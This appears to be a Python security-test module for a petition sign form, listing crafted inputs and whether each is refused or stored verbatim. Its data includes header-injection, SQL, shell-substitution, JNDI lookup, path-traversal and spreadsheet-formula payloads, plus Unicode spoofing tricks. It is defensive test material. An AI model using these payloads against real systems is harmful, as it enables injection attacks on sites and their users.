"""What is typed into the sign form: tricks with letters, lengths, addresses, formulas."""

from tests.attacks.attack import (
    CHECK,
    Attack,
    encoded,
    post,
    refused,
    sign,
    signed,
)


def kept(name: str, **typed: str) -> Attack:
    """What looks dangerous is kept as it was typed."""
    return sign(name, signed(**typed), typed)


LETTERS = [
    sign("a name that runs backwards", refused("first_name"), {"first_name": "a\u202egpj.exe"}),
    sign("a name in an isolate", refused("last_name"), {"last_name": "\u2066a\u2069"}),
    sign("a name of zero width", refused("first_name"), {"first_name": "\u200b\u200b"}),
    sign("a name with a zero-width space", refused("first_name"), {"first_name": "Z\u200boë"}),
    sign("a name of joiners only", refused("first_name"), {"first_name": "\u200d"}),
    sign("a name of spaces only", refused("first_name"), {"first_name": "\u00a0 \u3000"}),
    sign("a name of accents only", refused("first_name"), {"first_name": "\u0301\u0301"}),
    sign("a name with a soft hyphen", refused("first_name"), {"first_name": "Z\u00adoë"}),
    sign("a name with tags", refused("first_name"), {"first_name": "Zoë\U000e0041"}),
    sign("a name with a line", refused("first_name"), {"first_name": "Zoë\nBcc: a@b.org"}),
    sign("a name with a separator", refused("first_name"), {"first_name": "Zoë\u2028a"}),
    sign("a name with an escape", refused("first_name"), {"first_name": "\x1b[2Ja"}),
    sign("a name for private use", refused("first_name"), {"first_name": "\ue000"}),
    sign("a name that is no character", refused("first_name"), {"first_name": "a\uffff"}),
    sign("a name with a byte order mark", refused("first_name"), {"first_name": "\ufeffZoë"}),
    sign("a comment that runs backwards", refused("comment"), {"comment": "a\u202eb"}),
    sign("a comment with a bell", refused("comment"), {"comment": "a\x07b"}),
    sign("a comment with a NUL", refused("comment"), {"comment": "a\0b"}),
    sign(
        "a postal code with an invisible letter",
        refused("postal_code"),
        {"postal_code": "101\u200b15"},
    ),
    sign(
        "a ZIP in digits of another script",
        refused("postal_code"),
        {"country": "US", "postal_code": "\u0669\u0663\u0666\u0661\u0660"},
    ),
    sign(
        "a ZIP with a line",
        signed(postal_code="93610"),
        {"country": "US", "postal_code": "93610\n"},
    ),
    sign("a link as a name", refused("first_name"), {"first_name": "https://evil.example"}),
    sign("a bare link as a name", refused("last_name"), {"last_name": "win at evil.com"}),
    sign("a link as a postal code", refused("postal_code"), {"postal_code": "www.evil.xyz"}),
    sign(
        "a thousand accents on a letter",
        refused("first_name"),
        {"first_name": "a" + "\u0301" * 1000},
    ),
]

LENGTHS = [
    sign("a name of 81 letters", refused("first_name"), {"first_name": "a" * 81}),
    kept("a name of 80 emoji", first_name="\U0001f339" * 80),
    sign("a name of 100,000 letters", refused("first_name"), {"first_name": "a" * 100_000}),
    sign("a comment of 1,001 letters", refused("comment"), {"comment": "a" * 1001}),
    sign("a comment of 300,000 letters", refused("comment"), {"comment": "a" * 300_000}),
    sign("a postal code of 13 letters", refused("postal_code"), {"postal_code": "1" * 13}),
    sign("an address of 255 letters", refused("email"), {"email": "a" * 243 + "@example.org"}),
    sign(
        "an address of 100,000 letters", refused("email"), {"email": "a@" + "a." * 50_000 + "org"}
    ),
    sign("an address with 100,000 @", refused("email"), {"email": "@" * 100_000}),
    sign("a country of 100,000 letters", refused("country"), {"country": "U" * 100_000}),
    sign("a trap of 100,000 letters", refused("leave_blank"), {"leave_blank": "x" * 100_000}),
]

ADDRESSES = [
    sign(
        "an address with a copy to others", refused("email"), {"email": "a@b.org\r\nBcc: c@d.org"}
    ),
    sign("an address with a raw line feed", refused("email"), {"email": "a@b.org\nc@d.org"}),
    sign("two addresses with a comma", refused("email"), {"email": "a@b.org,c@d.org"}),
    sign("an address with a name", refused("email"), {"email": "Zoe <a@b.org>"}),
    sign("an address in quotes", refused("email"), {"email": '"a b"@b.org'}),
    sign("an address of a pipe", refused("email"), {"email": "|/bin/id@b.org\\"}),
    sign("an address at a number", refused("email"), {"email": "a@[127.0.0.1]"}),
    sign("an address at this machine", refused("email"), {"email": "root@localhost"}),
    sign("an address with a route", refused("email"), {"email": "@c.org:a@b.org"}),
    kept("an address with a percent hack", email="a%c.org@b.org"),
    sign("an address beyond ASCII", refused("email"), {"email": "zoë@example.org"}),
    sign("an address that runs backwards", refused("email"), {"email": "a\u202eb@example.org"}),
    kept("a domain that looks like another", email="a@раypal.org"),
    sign("a domain of a broken puny code", refused("email"), {"email": "a@xn--\u00e4.org"}),
    sign("an address with SQL", refused("email"), {"email": "a' OR 1=1 --@b.org"}),
    post(
        "a resent mail with a copy to others",
        refused("email"),
        CHECK,
        encoded({"email": "a@b.org\r\nBcc: c@d.org"}),
    ),
    post("a resent mail to nobody", refused("email"), CHECK, b"email="),
]

WORDS = [
    sign("a country that is none", refused("country"), {"country": "XX"}),
    sign("a country in small letters", refused("country"), {"country": "us"}),
    sign("a country with markup", refused("country"), {"country": '"><b on=1>'}),
    sign("the trap filled in", refused("leave_blank"), {"leave_blank": "http://evil.example"}),
    kept("SQL as a name", first_name="'); DROP TABLE x;--"),
    kept("a shell as a name", first_name="$(id) `id` ;id|id"),
    kept("a look-up as a name", first_name="${jndi:ldap://x/a}"),
    kept("a format as a name", first_name="%s%n{0.__class__}"),
    kept("a path as a name", first_name="../../etc/passwd"),
    sign("a text of another petition", refused(), {"text": "999999999"}),
    sign("a text that is no number", signed(), {"text": "\u00b2"}),
    sign("a text beyond all numbers", signed(), {"text": "9" * 5000}),
    sign("a text below nothing", signed(), {"text": "-1"}),
]

FORMULAS = [
    sign(
        f"a formula that begins with {name} in every field",
        signed(first_name=formula.strip(), last_name=formula.strip(), comment=formula.strip()),
        {"first_name": formula, "last_name": formula, "comment": formula},
    )
    for name, formula in {
        "=": "=cmd|'/C calc'!A0",
        "+": "+1+cmd",
        "-": "-2+3",
        "@": "@SUM(1)",
        "a tab": "\t=1+1",
        "a return": "\r=1+1",
        "a full-width sign": "\uff1d1+1",
    }.items()
]

ATTACKS = [*LETTERS, *LENGTHS, *ADDRESSES, *WORDS, *FORMULAS]
